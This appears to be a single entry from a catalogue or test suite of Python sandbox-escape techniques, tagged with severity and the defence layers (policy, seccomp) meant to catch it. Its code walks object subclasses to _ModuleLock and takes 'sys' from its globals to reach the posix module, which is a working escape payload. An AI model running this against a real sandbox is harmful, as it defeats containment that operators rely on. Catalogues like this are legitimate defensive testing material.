# technique: walk from a tuple to a class whose module holds sys
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_ModuleLock":
            return c.__init__.__globals__["sys"].modules["posix"]
    raise LookupError("no such class")

start_process(trick)
